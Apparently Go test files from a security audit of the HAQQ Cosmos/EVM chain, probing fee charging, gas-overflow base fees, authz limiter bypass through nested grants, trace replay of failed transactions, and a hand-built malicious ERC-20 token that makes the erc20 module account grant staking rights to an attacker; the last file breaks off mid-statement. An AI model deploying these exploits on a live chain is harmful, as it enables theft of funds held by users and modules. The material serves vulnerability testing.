	contract := suite.setupRegisterERC20Pair(contractMinterBurner)
	suite.Commit()
	pairID := suite.app.Erc20Keeper.GetTokenPairID(suite.ctx, contract.String())
	pair, found := suite.app.Erc20Keeper.GetTokenPair(suite.ctx, pairID)
	suite.Require().True(found)
	suite.Require().Equal(types.OWNER_EXTERNAL, pair.ContractOwner)

	suite.MintERC20Token(contract, suite.address, suite.address, half)
	suite.TransferERC20TokenToModule(contract, suite.address, half)
	suite.Require().Equal(half.String(), suite.app.BankKeeper.GetSupply(suite.ctx, pair.Denom).Amount.String())

	burn, err := erc20.Pack("burnCoins", types.ModuleAddress, half)
	suite.Require().NoError(err)
	suite.sendTx(contract, suite.address, burn)
	suite.MintERC20Token(contract, suite.address, suite.address, half)
	suite.Commit()

	transfer, err := erc20.Pack("transfer", types.ModuleAddress, half)
	suite.Require().NoError(err)
	res, price, paid, collected := suite.zzDeliver(contract, transfer, gasLimit)
	suite.T().Logf("standard token: code=%d codespace=%q gas_wanted=%d gas_used=%d price=%s sender paid=%s collector kept=%s log=%.60s",
		res.Code, res.Codespace, res.GasWanted, res.GasUsed, price, paid, collected, res.Log)

	owed := new(big.Int).Mul(price, big.NewInt(res.GasUsed))
	suite.Require().Equal(owed.String(), paid.String(), "the sender must pay gas_used x price = %d x %s", res.GasUsed, price)
	suite.Require().Equal(owed.String(), collected.String(), "the fee collector must keep gas_used x price = %d x %s", res.GasUsed, price)
}
