package keeper_test

import (
	"math"
	"math/big"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"

	evmante "github.com/haqq-network/haqq/app/ante/evm"
)

// zzNextBaseFee runs one block on an UNLIMITED block gas chain (consensus max_gas = -1, the
// configuration of the repository's own test apps) in which n Cosmos transactions, each declaring
// the largest gas limit a Cosmos tx may declare (tx.MaxGasWanted = 2^63-1), pass the real
// GasWantedDecorator; then the real EndBlock, and the real BeginBlock of the next block.
// It returns (gas figure stored for the block, base fee of the next block).
func (suite *KeeperTestSuite) zzNextBaseFee(n int) (uint64, *big.Int) {
	suite.SetupTest()

	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	params.NoBaseFee = false
	params.EnableHeight = 0
	params.BaseFee = sdkmath.NewInt(1000)
	params.MinGasPrice = sdk.ZeroDec()
	params.MinGasMultiplier = sdk.NewDecWithPrec(5, 1)
	params.ElasticityMultiplier = 2
	params.BaseFeeChangeDenominator = 8
	suite.Require().NoError(params.Validate())
	suite.Require().NoError(suite.app.FeeMarketKeeper.SetParams(suite.ctx, params))

	// what baseapp.BeginBlock builds for max_gas = -1
	ctx := suite.ctx.
		WithBlockGasMeter(sdk.NewInfiniteGasMeter()).
		WithConsensusParams(&tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: -1, MaxBytes: 22020096}})

	// the previous block was empty
	suite.app.FeeMarketKeeper.SetBlockGasWanted(ctx, 0)
	suite.app.FeeMarketKeeper.SetTransientBlockGasWanted(ctx, 0)

	dec := evmante.NewGasWantedDecorator(suite.app.EvmKeeper, suite.app.FeeMarketKeeper)
	next := func(ctx sdk.Context, _ sdk.Tx, _ bool) (sdk.Context, error) { return ctx, nil }
	for i := 0; i < n; i++ {
		builder := suite.clientCtx.TxConfig.NewTxBuilder()
		builder.SetGasLimit(txtypes.MaxGasWanted) // 2^63-1: accepted by Tx.ValidateBasic
		_, err := dec.AnteHandle(ctx, builder.GetTx(), false, next)
		suite.Require().NoError(err)
	}

	suite.app.FeeMarketKeeper.EndBlock(ctx, abci.RequestEndBlock{Height: ctx.BlockHeight()})
	figure := suite.app.FeeMarketKeeper.GetBlockGasWanted(ctx)

	nextCtx := ctx.WithBlockHeight(ctx.BlockHeight() + 1)
	suite.app.FeeMarketKeeper.BeginBlock(nextCtx, abci.RequestBeginBlock{})
	return figure, suite.app.FeeMarketKeeper.GetParams(nextCtx).BaseFee.BigInt()
}

// Property C17: the gas figure of a block is max(gasWanted x minGasMultiplier, gasUsed) and the next
// base fee is monotone in it - for all block gas limits, INCLUDING unlimited.
func (suite *KeeperTestSuite) TestZZHuntGasWantedOverflowUnlimitedBlockGas() {
	const g = uint64(math.MaxInt64) // 2^63-1, gas declared per tx
	target := uint64(math.MaxUint64) / 2

	fig1, fee1 := suite.zzNextBaseFee(1)
	fig2, fee2 := suite.zzNextBaseFee(2)
	fig3, fee3 := suite.zzNextBaseFee(3)
	suite.T().Logf("target T = %d", target)
	suite.T().Logf("1 tx : figure %d, next base fee %s", fig1, fee1)
	suite.T().Logf("2 txs: figure %d, next base fee %s", fig2, fee2)
	suite.T().Logf("3 txs: figure %d, next base fee %s", fig3, fee3)

	// one tx: figure = 0.5 x (2^63-1), below target: the fee falls (sanity, holds)
	suite.Require().Equal(g/2, fig1)
	suite.Require().Equal(-1, fee1.Cmp(big.NewInt(1000)))

	// two txs: gasWanted = 2^64-2, figure = 0.5 x gasWanted = 2^63-1 = T exactly: fee unchanged
	suite.Require().Equal(g, fig2, "figure of a block that declared 2 x (2^63-1) gas must be gasWanted x 0.5")
	suite.Require().Equal("1000", fee2.String(), "g == T must leave the base fee unchanged")

	// three txs: gasWanted x 0.5 = 1.5 x (2^63-1) > T. Whatever the representation of the figure,
	// more declared (and paid) gas must never give a LOWER figure or a LOWER next base fee (monotone in g)
	suite.Require().True(fig3 >= fig2 && fig2 >= fig1, "gas figure must be monotone in declared gas: %d, %d, %d", fig1, fig2, fig3)
	suite.Require().True(fee3.Cmp(fee2) >= 0 && fee2.Cmp(fee1) >= 0, "next base fee must be monotone in declared gas: %s, %s, %s", fee1, fee2, fee3)
	_ = target
}
