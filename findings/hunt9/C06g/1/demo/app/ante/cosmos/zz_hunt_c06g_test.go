package cosmos_test

import (
	"fmt"
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/app"
	cosmosante "github.com/haqq-network/haqq/app/ante/cosmos"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// production list (app/ante/handler_options.go)
func zzProdLimiter() cosmosante.AuthzLimiterDecorator {
	return cosmosante.NewAuthzLimiterDecorator(
		sdk.MsgTypeURL(&evmtypes.MsgEthereumTx{}),
		sdk.MsgTypeURL(&sdkvesting.MsgCreateVestingAccount{}),
		sdk.MsgTypeURL(&authz.MsgExec{}),
		sdk.MsgTypeURL(&authz.MsgGrant{}),
	)
}

type zzShape struct {
	desc string
	msg  func(leaf sdk.Msg) sdk.Msg
}

// all exec-trees up to the given depth with up to 2 siblings, the hole at every position
func zzShapes(a sdk.AccAddress, filler func() sdk.Msg, depth int) []zzShape {
	out := []zzShape{}
	if depth == 0 {
		return []zzShape{{"L", func(l sdk.Msg) sdk.Msg { return l }}}
	}
	for _, sub := range zzShapes(a, filler, depth-1) {
		sub := sub
		out = append(out,
			zzShape{"E[" + sub.desc + "]", func(l sdk.Msg) sdk.Msg { return newMsgExec(a, []sdk.Msg{sub.msg(l)}) }},
			zzShape{"E[S," + sub.desc + "]", func(l sdk.Msg) sdk.Msg { return newMsgExec(a, []sdk.Msg{filler(), sub.msg(l)}) }},
			zzShape{"E[" + sub.desc + ",S]", func(l sdk.Msg) sdk.Msg { return newMsgExec(a, []sdk.Msg{sub.msg(l), filler()}) }},
			zzShape{"E[E[S]," + sub.desc + "]", func(l sdk.Msg) sdk.Msg {
				return newMsgExec(a, []sdk.Msg{newMsgExec(a, []sdk.Msg{filler()}), sub.msg(l)})
			}},
		)
	}
	return out
}

func TestZZHuntC06gEnumerate(t *testing.T) {
	privs, addrs, err := generatePrivKeyAddressPairs(3)
	require.NoError(t, err)
	far := time.Date(5321, 1, 1, 0, 0, 0, 0, time.UTC)
	enc := encoding.MakeConfig(app.ModuleBasics)

	filler := func() sdk.Msg {
		return banktypes.NewMsgSend(addrs[0], addrs[1], sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1)))
	}
	ethMsg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID: big.NewInt(54211), Nonce: 0, GasLimit: 100000, GasFeeCap: big.NewInt(1), GasTipCap: big.NewInt(1),
		Accesses: &ethtypes.AccessList{},
	})
	blocked := map[string]sdk.Msg{
		"eth":         ethMsg,
		"vest":        &sdkvesting.MsgCreateVestingAccount{FromAddress: addrs[0].String(), ToAddress: addrs[1].String(), Amount: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1)), EndTime: 10},
		"grant(eth)":  newMsgGrant(addrs[0], addrs[1], authz.NewGenericAuthorization(sdk.MsgTypeURL(&evmtypes.MsgEthereumTx{})), &far),
		"grant(exec)": newMsgGrant(addrs[0], addrs[1], authz.NewGenericAuthorization(sdk.MsgTypeURL(&authz.MsgExec{})), &far),
		"grant(grnt)": newMsgGrant(addrs[0], addrs[1], authz.NewGenericAuthorization(sdk.MsgTypeURL(&authz.MsgGrant{})), &far),
	}
	dec := zzProdLimiter()
	rej := cosmosante.RejectMessagesDecorator{}

	run := func(msgs ...sdk.Msg) error {
		tx, err := createTx(privs[0], msgs...)
		require.NoError(t, err)
		bz, err := enc.TxConfig.TxEncoder()(tx)
		require.NoError(t, err)
		dtx, err := enc.TxConfig.TxDecoder()(bz)
		if err != nil {
			return err // not even decodable
		}
		ctx := sdk.Context{}
		if _, err := rej.AnteHandle(ctx, dtx, false, testutil.NextFn); err != nil {
			return err
		}
		_, err = dec.AnteHandle(ctx, dtx, false, testutil.NextFn)
		return err
	}

	n, bad := 0, []string{}
	for depth := 0; depth <= 5; depth++ {
		for _, sh := range zzShapes(addrs[0], filler, depth) {
			for name, b := range blocked {
				if depth == 0 && name == "vest" {
					continue // a top-level sdk vesting message is not an authz matter
				}
				for _, pos := range []string{"only", "after", "before"} {
					var msgs []sdk.Msg
					switch pos {
					case "only":
						msgs = []sdk.Msg{sh.msg(b)}
					case "after":
						msgs = []sdk.Msg{filler(), sh.msg(b)}
					case "before":
						msgs = []sdk.Msg{sh.msg(b), filler()}
					}
					n++
					if err := run(msgs...); err == nil {
						bad = append(bad, fmt.Sprintf("%s/%s/%s", sh.desc, name, pos))
					}
				}
			}
		}
	}
	t.Logf("enumerated %d transactions, %d accepted with a blocked message", n, len(bad))
	require.Empty(t, bad)
}

// barred types as the inner message of an exec (not only as the subject of a grant)
func TestZZHuntC06gBarredInner(t *testing.T) {
	privs, addrs, err := generatePrivKeyAddressPairs(3)
	require.NoError(t, err)
	far := time.Date(5321, 1, 1, 0, 0, 0, 0, time.UTC)
	send := banktypes.NewMsgSend(addrs[0], addrs[1], sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1)))
	dec := zzProdLimiter()

	// B executes "V grants C a send authorization" in V's name: MsgGrant is a barred type
	inner := newMsgGrant(addrs[0], addrs[2], authz.NewGenericAuthorization(sdk.MsgTypeURL(send)), &far)
	tx, err := createTx(privs[1], newMsgExec(addrs[1], []sdk.Msg{inner}))
	require.NoError(t, err)
	_, err = dec.AnteHandle(sdk.Context{}, tx, false, testutil.NextFn)
	t.Logf("MsgExec[MsgGrant(send)] -> %v", err)
	errGrant := err

	tx, err = createTx(privs[1], newMsgExec(addrs[1], []sdk.Msg{newMsgExec(addrs[0], []sdk.Msg{send})}))
	require.NoError(t, err)
	_, err = dec.AnteHandle(sdk.Context{}, tx, false, testutil.NextFn)
	t.Logf("MsgExec[MsgExec[send]] -> %v", err)

	require.Error(t, errGrant, "MsgGrant is barred from delegation, yet MsgExec[MsgGrant] passes the limiter")
}

// end to end: a grant of MsgGrant that is already in state (stored before the type was barred, or
// loaded from the authz genesis, which is not checked) is still usable through the ante handler.
func (suite *AnteTestSuite) TestZZHuntC06gStoredGrantOfMsgGrant() {
	suite.SetupTest()
	privs, addrs, err := generatePrivKeyAddressPairs(3)
	suite.Require().NoError(err)
	v, b, c := addrs[0], addrs[1], addrs[2]
	far := suite.ctx.BlockTime().Add(1000 * time.Hour)
	send := banktypes.NewMsgSend(v, c, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1)))

	// state left over: V once let B grant on V's behalf
	suite.Require().NoError(suite.app.AuthzKeeper.SaveGrant(suite.ctx, b, v,
		authz.NewGenericAuthorization(sdk.MsgTypeURL(&authz.MsgGrant{})), &far))

	exec := newMsgExec(b, []sdk.Msg{newMsgGrant(v, c, authz.NewGenericAuthorization(sdk.MsgTypeURL(send)), &far)})
	tx, err := createTx(privs[1], exec)
	suite.Require().NoError(err)

	chain := sdk.ChainAnteDecorators(cosmosante.RejectMessagesDecorator{}, zzProdLimiter())
	_, anteErr := chain(suite.ctx, tx, false)
	suite.T().Logf("ante (reject + authz limiter with the production list): %v", anteErr)

	if anteErr == nil {
		_, err = suite.app.MsgServiceRouter().Handler(exec)(suite.ctx, exec)
		suite.T().Logf("execution of MsgExec{B,[MsgGrant{V->C, send}]}: err=%v", err)
	}
	auth, _ := suite.app.AuthzKeeper.GetAuthorization(suite.ctx, c, v, sdk.MsgTypeURL(send))
	suite.T().Logf("authorization V->C for MsgSend after the tx: %v", auth)
	suite.Require().Nil(auth, "MsgGrant (barred from delegation) was executed in V's name through a nested grant")
}
