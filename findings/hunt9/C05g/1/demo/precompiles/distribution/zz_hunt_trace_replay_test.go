package distribution_test

import (
	"encoding/hex"
	"encoding/json"
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/gogoproto/proto"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	ethlogger "github.com/ethereum/go-ethereum/eth/tracers/logger"

	"github.com/haqq-network/haqq/precompiles/distribution"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C05: "A transaction that ultimately fails changes nothing except the fee payment and the nonce."
//
// ApplyTransaction guarantees that with a cache context that is only written when the transaction succeeded.
// debug_traceTransaction / debug_traceBlockByNumber (Query/TraceTx, Query/TraceBlock) re-execute the
// transactions that precede the traced one in its block - but they call ApplyMessageWithConfig(commit=true)
// directly on the query context, without that cache context. A predecessor that FAILED in the block (its top
// frame reverted after a stateful precompile call) therefore leaves the precompile's effect behind in the
// replayed state, and the traced transaction is executed on a state that never existed on chain.
func (s *PrecompileTestSuite) TestZZHuntTraceReplayKeepsEffectsOfFailedPredecessor() {
	// runtime: forward the calldata to the distribution precompile (0x0801);
	// if the precompile call FAILED -> INVALID, if it SUCCEEDED -> REVERT(0,0)
	runtime := "36" + "6000" + "6000" + "37" + // calldatacopy(0,0,calldatasize)
		"6000" + "6000" + "36" + "6000" + "6000" + "610801" + "5a" + "f1" + // call(gas, 0x801, 0, 0, cds, 0, 0)
		"6018" + "57" + // jumpi(0x18, success)
		"fe" + // invalid
		"5b" + "6000" + "6000" + "fd" // jumpdest; revert(0,0)
	runtimeBz, err := hex.DecodeString(runtime)
	s.Require().NoError(err)
	s.Require().Equal(0x1e, len(runtimeBz))
	initBz, err := hex.DecodeString("601e" + "80" + "600b" + "6000" + "39" + "6000" + "f3")
	s.Require().NoError(err)

	fwd, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: append(initBz, runtimeBz...)})
	s.Require().NoError(err)
	s.NextBlock()
	fwdAcc := s.app.EvmKeeper.GetAccount(s.ctx, fwd)
	s.Require().NotNil(fwdAcc)
	s.Require().Equal(runtimeBz, s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(fwdAcc.CodeHash)))

	origin := sdk.AccAddress(s.address.Bytes())
	other := sdk.AccAddress(utiltx.GenerateAddress().Bytes())
	s.Require().Equal(origin.String(), s.app.DistrKeeper.GetDelegatorWithdrawAddr(s.ctx, origin).String())

	chainID := s.app.EvmKeeper.ChainID()
	nonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	baseFee := s.app.FeeMarketKeeper.GetBaseFee(s.ctx)
	precompileAddr := s.precompile.Address()

	// tx 1 (will fail): origin -> forwarder -> distribution.setWithdrawAddress(origin, other); forwarder reverts
	setInput, err := s.precompile.Pack(distribution.SetWithdrawAddressMethod, s.address, other.String())
	s.Require().NoError(err)
	failing := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID: chainID, Nonce: nonce, To: &fwd, GasLimit: 500_000,
		GasFeeCap: baseFee, GasTipCap: big.NewInt(1), Input: setInput, Accesses: &ethtypes.AccessList{},
	})
	failing.From = s.address.String()
	s.Require().NoError(failing.Sign(s.ethSigner, s.signer))

	// tx 2 (the traced one): origin -> distribution.delegatorWithdrawAddress(origin)
	getInput, err := s.precompile.Pack(distribution.DelegatorWithdrawAddressMethod, s.address)
	s.Require().NoError(err)
	query := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID: chainID, Nonce: nonce + 1, To: &precompileAddr, GasLimit: 500_000,
		GasFeeCap: baseFee, GasTipCap: big.NewInt(1), Input: getInput, Accesses: &ethtypes.AccessList{},
	})
	query.From = s.address.String()
	s.Require().NoError(query.Sign(s.ethSigner, s.signer))

	// --- what debug_traceTransaction(tx 2) reports, with tx 1 as its predecessor in the block.
	// Run it on a branch of the state so that the trace itself cannot influence the real execution below.
	traceCtx, _ := s.ctx.CacheContext()
	traceRes, err := s.app.EvmKeeper.TraceTx(sdk.WrapSDKContext(traceCtx), &evmtypes.QueryTraceTxRequest{
		Msg:             query,
		Predecessors:    []*evmtypes.MsgEthereumTx{failing},
		BlockNumber:     s.ctx.BlockHeight(),
		BlockTime:       s.ctx.BlockTime(),
		BlockHash:       common.BytesToHash(s.ctx.HeaderHash()).Hex(),
		ProposerAddress: s.ctx.BlockHeader().ProposerAddress,
		ChainId:         chainID.Int64(),
		BlockMaxGas:     -1,
	})
	s.Require().NoError(err)
	var traced ethlogger.ExecutionResult
	s.Require().NoError(json.Unmarshal(traceRes.Data, &traced))
	s.Require().False(traced.Failed, "traced query must not fail")
	tracedRet, err := hex.DecodeString(traced.ReturnValue)
	s.Require().NoError(err)
	var tracedWithdrawAddr string
	s.Require().NoError(s.precompile.UnpackIntoInterface(&tracedWithdrawAddr, distribution.DelegatorWithdrawAddressMethod, tracedRet))

	// --- the same through debug_traceBlockByNumber (Query/TraceBlock) for a block made of tx 1 and tx 2
	blockCtx, _ := s.ctx.CacheContext()
	blockRes, err := s.app.EvmKeeper.TraceBlock(sdk.WrapSDKContext(blockCtx), &evmtypes.QueryTraceBlockRequest{
		Txs:             []*evmtypes.MsgEthereumTx{failing, query},
		BlockNumber:     s.ctx.BlockHeight(),
		BlockTime:       s.ctx.BlockTime(),
		BlockHash:       common.BytesToHash(s.ctx.HeaderHash()).Hex(),
		ProposerAddress: s.ctx.BlockHeader().ProposerAddress,
		ChainId:         chainID.Int64(),
		BlockMaxGas:     -1,
	})
	s.Require().NoError(err)
	var blockTraces []struct {
		Result ethlogger.ExecutionResult `json:"result"`
		Error  string                    `json:"error"`
	}
	s.Require().NoError(json.Unmarshal(blockRes.Data, &blockTraces))
	s.Require().Len(blockTraces, 2)
	s.Require().Empty(blockTraces[0].Error)
	s.Require().True(blockTraces[0].Result.Failed, "tx 1 fails in the block trace as well")
	s.Require().Empty(blockTraces[1].Error)
	s.Require().False(blockTraces[1].Result.Failed)
	blockRet, err := hex.DecodeString(blockTraces[1].Result.ReturnValue)
	s.Require().NoError(err)
	var blockTracedWithdrawAddr string
	s.Require().NoError(s.precompile.UnpackIntoInterface(&blockTracedWithdrawAddr, distribution.DelegatorWithdrawAddressMethod, blockRet))

	// --- what really happens in the block: tx 1 fails, tx 2 runs after it
	res1, err := haqqtestutil.DeliverEthTxWithoutCheck(s.app, nil, failing)
	s.Require().NoError(err)
	s.Require().True(res1.IsOK(), res1.Log)
	rsp1 := s.zzEthResponse(res1.Data)
	s.Require().Equal("execution reverted", rsp1.VmError, "tx 1 must fail by the forwarder's REVERT after a successful precompile call")

	res2, err := haqqtestutil.DeliverEthTxWithoutCheck(s.app, nil, query)
	s.Require().NoError(err)
	s.Require().True(res2.IsOK(), res2.Log)
	rsp2 := s.zzEthResponse(res2.Data)
	s.Require().Empty(rsp2.VmError)
	var realWithdrawAddr string
	s.Require().NoError(s.precompile.UnpackIntoInterface(&realWithdrawAddr, distribution.DelegatorWithdrawAddressMethod, rsp2.Ret))

	// the consensus path honours the property: the failed tx 1 left nothing behind
	s.Require().Equal(origin.String(), realWithdrawAddr, "on chain the failed transaction changed nothing")
	s.Require().Equal(origin.String(), s.app.DistrKeeper.GetDelegatorWithdrawAddr(s.ctx, origin).String())

	// the property, as seen by the trace of tx 2: the failed predecessor must have changed nothing
	s.Assert().Equal(realWithdrawAddr, tracedWithdrawAddr,
		"TraceTx: tx 2 ran on a state in which the FAILED tx 1 still changed the withdraw address (to %s)", other)
	s.Assert().Equal(realWithdrawAddr, blockTracedWithdrawAddr,
		"TraceBlock: tx 2 ran on a state in which the FAILED tx 1 still changed the withdraw address (to %s)", other)
}

func (s *PrecompileTestSuite) zzEthResponse(data []byte) *evmtypes.MsgEthereumTxResponse {
	var txData sdk.TxMsgData
	s.Require().NoError(s.app.AppCodec().Unmarshal(data, &txData))
	s.Require().Len(txData.MsgResponses, 1)
	var res evmtypes.MsgEthereumTxResponse
	s.Require().NoError(proto.Unmarshal(txData.MsgResponses[0].Value, &res))
	return &res
}
