package keeper_test

import (
	"encoding/binary"
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	stakingprecompile "github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzHuntToken assembles (no solc in the sandbox) a minimal ERC-20-like token:
//
//	balanceOf(a)   -> sload(a)
//	transfer(to,x) -> sstore(caller, sload(caller)-x); sstore(to, sload(to)+x);
//	                  CALL 0x0800 (staking precompile) with `payload`; revert iff that call failed; return true
//
// i.e. a token that keeps correct books but makes one extra call to the staking precompile in transfer().
func zzHuntToken(payload []byte) []byte {
	u16 := func(v int) []byte { b := make([]byte, 2); binary.BigEndian.PutUint16(b, uint16(v)); return b }
	var code []byte
	emit := func(b ...byte) { code = append(code, b...) }
	// placeholders are patched afterwards
	type patch struct {
		at    int
		label string
	}
	var patches []patch
	labels := map[string]int{}
	pushLabel := func(l string) { emit(0x61, 0, 0); patches = append(patches, patch{len(code) - 2, l}) }
	label := func(l string) { labels[l] = len(code); emit(0x5b) }

	// selector
	emit(0x60, 0x00, 0x35, 0x60, 0xe0, 0x1c)
	emit(0x80, 0x63, 0x70, 0xa0, 0x82, 0x31, 0x14)
	pushLabel("bal")
	emit(0x57)
	emit(0x80, 0x63, 0xa9, 0x05, 0x9c, 0xbb, 0x14)
	pushLabel("xfer")
	emit(0x57)
	emit(0x00) // STOP

	label("bal")
	emit(0x60, 0x04, 0x35, 0x54, 0x60, 0x00, 0x52, 0x60, 0x20, 0x60, 0x00, 0xf3)

	label("xfer")
	// bal[caller] -= amt
	emit(0x60, 0x24, 0x35) // amt
	emit(0x33, 0x54)       // sload(caller)
	emit(0x03)             // bal - amt
	emit(0x33, 0x55)       // sstore(caller, .)
	// bal[to] += amt
	emit(0x60, 0x24, 0x35)
	emit(0x60, 0x04, 0x35, 0x54)
	emit(0x01)
	emit(0x60, 0x04, 0x35, 0x55)
	// codecopy(0, payloadOff, len)
	emit(0x61)
	emit(u16(len(payload))...)
	pushLabel("payload")
	emit(0x60, 0x00, 0x39)
	// call(gas, 0x0800, 0, 0, len, 0, 0)
	emit(0x60, 0x00, 0x60, 0x00, 0x61)
	emit(u16(len(payload))...)
	emit(0x60, 0x00, 0x60, 0x00, 0x61, 0x08, 0x00, 0x5a, 0xf1)
	emit(0x15) // iszero
	pushLabel("fail")
	emit(0x57)
	emit(0x60, 0x01, 0x60, 0x00, 0x52, 0x60, 0x20, 0x60, 0x00, 0xf3)
	label("fail")
	emit(0x60, 0x00, 0x60, 0x00, 0xfd)
	labels["payload"] = len(code)
	code = append(code, payload...)
	for _, p := range patches {
		copy(code[p.at:], u16(labels[p.label]))
	}

	// init code: codecopy(0, 12, len) ; return(0, len)
	init := []byte{0x61}
	init = append(init, u16(len(code))...)
	init = append(init, 0x80, 0x60, 0x0c, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3)
	for len(init) < 12 {
		init = append(init, 0x00)
	}
	return append(init, code...)
}

// Property C04: a state-changing precompile call changes an account's funds, stake or GRANTS only if that
// account is the transaction signer or the immediate calling contract.
//
// Here an ordinary user signs a plain MsgConvertCoin for a registered (native ERC-20) token pair. The erc20
// module executes token.transfer() with the *module account* as EVM origin. The token contract calls
// staking.approve(attacker, unlimited, [MsgDelegate]): the staking precompile takes evm.Origin for "the signer"
// and stores an authz grant erc20-module-account -> attacker. Nobody who controls the module account signed
// anything; afterwards the attacker stakes the module account's coins with a plain authz MsgExec.
func (suite *KeeperTestSuite) TestZZHuntModuleAccountAsPrecompileOrigin() {
	suite.SetupTest()

	attacker := utiltx.GenerateAddress()
	user := suite.address
	moduleAcc := sdk.AccAddress(types.ModuleAddress.Bytes())

	stakingABI, err := stakingprecompile.LoadABI()
	suite.Require().NoError(err)
	payload, err := stakingABI.Pack("approve", attacker, abi.MaxUint256, []string{stakingprecompile.DelegateMsg})
	suite.Require().NoError(err)

	// deploy the token and register it as a native ERC-20 token pair (what RegisterERC20Proposal does)
	suite.Commit()
	token, err := testutil.DeployContract(suite.ctx, suite.app, suite.priv, suite.queryClientEvm,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzHuntToken(payload)})
	suite.Require().NoError(err)
	suite.Commit()
	suite.Require().True(suite.app.EvmKeeper.GetAccountWithoutBalance(suite.ctx, token).IsContract())

	pair := types.NewTokenPair(token, types.CreateDenom(token.String()), types.OWNER_EXTERNAL)
	suite.app.Erc20Keeper.SetTokenPair(suite.ctx, pair)
	suite.app.Erc20Keeper.SetDenomMap(suite.ctx, pair.Denom, pair.GetID())
	suite.app.Erc20Keeper.SetERC20Map(suite.ctx, token, pair.GetID())

	// the user holds 100 tokens (the token's initial distribution)
	suite.app.EvmKeeper.SetState(suite.ctx, token, common.BytesToHash(user.Bytes()), common.BigToHash(big.NewInt(100)).Bytes())
	suite.Commit()

	noGrant := func(when string) {
		a, _ := suite.app.AuthzKeeper.GetAuthorization(suite.ctx, attacker.Bytes(), moduleAcc, stakingprecompile.DelegateMsg)
		suite.Require().Nil(a, "%s: an authz grant erc20 module account -> attacker exists although the module account neither signed nor called anything", when)
	}
	noGrant("initially")

	// step 1: user converts 50 tokens into coins (token.transfer runs with origin = user)
	_, err = suite.app.Erc20Keeper.ConvertERC20(sdk.WrapSDKContext(suite.ctx),
		types.NewMsgConvertERC20(math.NewInt(50), sdk.AccAddress(user.Bytes()), token, user))
	suite.Require().NoError(err)
	suite.Commit()
	suite.Require().Equal(int64(50), suite.app.BankKeeper.GetBalance(suite.ctx, user.Bytes(), pair.Denom).Amount.Int64())
	noGrant("after ConvertERC20")

	// some bond-denom coins sit in the module account (any balance it holds is at stake)
	suite.Require().NoError(testutil.FundModuleAccount(suite.ctx, suite.app.BankKeeper, types.ModuleName,
		sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 1000))))
	moduleBefore := suite.app.BankKeeper.GetBalance(suite.ctx, moduleAcc, utils.BaseDenom)

	// step 2: user converts 10 coins back into tokens: a plain Cosmos message signed by the user only
	_, err = suite.app.Erc20Keeper.ConvertCoin(sdk.WrapSDKContext(suite.ctx),
		types.NewMsgConvertCoin(sdk.NewCoin(pair.Denom, math.NewInt(10)), user, sdk.AccAddress(user.Bytes())))
	// (on the unchanged tree this succeeds; a tree that refuses the token's precompile call may fail the conversion,
	// which is fine for the property: a failed message leaves nothing behind)
	suite.T().Logf("MsgConvertCoin error: %v", err)
	suite.Commit()

	// what the attacker can now do with the grant: stake the module account's coins through authz
	grant, _ := suite.app.AuthzKeeper.GetAuthorization(suite.ctx, attacker.Bytes(), moduleAcc, stakingprecompile.DelegateMsg)
	if grant != nil {
		suite.app.AccountKeeper.SetAccount(suite.ctx, authtypes.NewBaseAccountWithAddress(attacker.Bytes()))
		valAddr := suite.validator.GetOperator()
		_, err = suite.app.AuthzKeeper.DispatchActions(suite.ctx, attacker.Bytes(), []sdk.Msg{
			stakingtypes.NewMsgDelegate(moduleAcc, valAddr, sdk.NewInt64Coin(utils.BaseDenom, 1000)),
		})
		suite.Require().NoError(err)
		moduleAfter := suite.app.BankKeeper.GetBalance(suite.ctx, moduleAcc, utils.BaseDenom)
		suite.T().Logf("erc20 module account %s balance: before %s, after the attacker's authz MsgExec %s", utils.BaseDenom, moduleBefore, moduleAfter)
		del, found := suite.app.StakingKeeper.GetDelegation(suite.ctx, moduleAcc, valAddr)
		suite.T().Logf("erc20 module account delegation found=%v shares=%s", found, del.Shares)
		suite.Require().Equal(moduleBefore.String(), moduleAfter.String(),
